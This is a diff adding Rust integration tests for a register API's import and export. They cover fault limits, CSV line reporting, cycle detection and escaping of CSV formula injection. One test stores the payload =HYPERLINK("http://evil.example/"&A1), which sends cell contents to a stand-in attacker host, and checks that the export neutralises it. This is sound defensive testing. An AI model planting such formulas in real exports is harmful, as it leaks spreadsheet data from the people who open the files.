@@ -632,3 +632,89 @@ async fn the_command_line_imports_a_file_and_exports_the_register() {
         67
     );
 }
+
+#[actix_web::test]
+async fn messy_files_get_bounded_exact_answers() {
+    let app = spawn_app().await;
+    // Faults of any kind stop at 1,000.
+    let lines = "[]\n".repeat(3000);
+    let problem = import(&app, "", "application/x-ndjson", lines.as_bytes())
+        .await
+        .problem(422);
+    assert_eq!(Reply::fields(&problem).len(), 1000);
+    let json = format!("{{\"people\": [{}]}}", vec!["1"; 1500].join(","));
+    let problem = import(&app, "", "application/json", json.as_bytes())
+        .await
+        .problem(422);
+    assert_eq!(Reply::fields(&problem).len(), 1000);
+
+    // CSV faults name the physical line, CRLF and blank lines included; a
+    // plain column given twice is refused.
+    let csv = "name,kind\r\nA,enterprise\r\n\r\nB,enterprise\r\nC,badkind\r\n";
+    let problem = import(&app, "resource=organizations", "text/csv", csv.as_bytes())
+        .await
+        .problem(422);
+    assert_eq!(Reply::fields(&problem), ["line 5.kind"]);
+    let twice = "name,name,kind\nFirst,Second,enterprise\n";
+    let problem = import(&app, "resource=organizations", "text/csv", twice.as_bytes())
+        .await
+        .problem(422);
+    assert_eq!(Reply::fields(&problem), ["line 1.name"]);
+
+    // A byte order mark is no fault in NDJSON or JSON either.
+    let ndjson = "\u{feff}{\"type\": \"person\", \"name\": \"Zhou Haiying\"}\n";
+    import(&app, "", "application/x-ndjson", ndjson.as_bytes())
+        .await
+        .expect(201);
+
+    // A parent may be named by any of its identifiers, and a cycle is
+    // named at the member that makes it.
+    let file = json!({"organizations": [
+        {"name": "Kid", "kind": "enterprise", "parent_id": "x:second"},
+        {"name": "P", "kind": "enterprise", "identifiers": [
+            {"scheme": "x", "value": "first"}, {"scheme": "x", "value": "second"}]}
+    ]});
+    import(&app, "", "application/json", file.to_string().as_bytes())
+        .await
+        .expect(201);
+    let cycle = json!({"organizations": [
+        {"name": "A", "kind": "other", "parent_id": "x:b", "identifiers": [{"scheme": "x", "value": "a"}]},
+        {"name": "B", "kind": "other", "parent_id": "x:a", "identifiers": [{"scheme": "x", "value": "b"}]}
+    ]});
+    let problem = import(&app, "", "application/json", cycle.to_string().as_bytes())
+        .await
+        .problem(422);
+    assert_eq!(Reply::fields(&problem), ["organizations[0].parent_id"]);
+}
+
+#[actix_web::test]
+async fn csv_exports_keep_spreadsheets_from_reading_cells_as_formulas() {
+    let app = spawn_app().await;
+    let name = "=HYPERLINK(\"http://evil.example/\"&A1)";
+    app.post(
+        "/v1/organizations",
+        &json!({"name": name, "kind": "enterprise",
+            "contact_details": [{"type": "phone", "value": "+86 21 1111"}],
+            "identifiers": [{"scheme": "x", "value": "evil"}]}),
+    )
+    .await
+    .expect(201);
+    let exported = app
+        .get("/v1/exports/organizations?format=csv")
+        .await
+        .expect(200)
+        .body
+        .clone();
+    let text = String::from_utf8(exported.clone()).unwrap();
+    assert!(text.contains("\"'=HYPERLINK(") && text.contains("'+86 21 1111"));
+    let empty = spawn_app().await;
+    import(&empty, "resource=organizations", "text/csv", &exported)
+        .await
+        .expect(201);
+    let page = empty.get("/v1/organizations").await.expect(200).json();
+    assert_eq!(page["items"][0]["name"], name);
+    assert_eq!(
+        page["items"][0]["contact_details"][0]["value"],
+        "+86 21 1111"
+    );
+}
